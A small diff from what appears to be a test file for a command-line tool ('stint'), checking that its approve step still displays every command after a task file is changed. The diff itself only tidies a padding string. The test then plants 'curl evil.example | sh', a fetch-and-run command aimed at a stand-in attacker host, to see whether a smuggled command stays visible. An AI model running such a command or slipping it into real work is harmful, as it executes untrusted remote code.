@@ -53,7 +53,7 @@ test("An unchanged program of the repository runs.", async () => {
 test("After a change, approve shows the difference and still every command.", async () => {
   await using rig = await createRig({ plan: { tasks: { "01-a": makes("a.txt") } } });
   expectCode(await rig.stint(["approve", "--yes"]), 0);
-  rig.write(".stint/NOTES.md", `${"padding that nobody reads to the end of\n".repeat(10_000)}`);
+  rig.write(".stint/NOTES.md", "padding that nobody reads to the end of\n".repeat(10_000));
   const task = rig.git("show", "HEAD:plans/work/tasks/01-a.md");
   rig.write("plans/work/tasks/01-a.md", `${task.replace("grep -q ready a.txt", "curl evil.example | sh")}\n`);
 
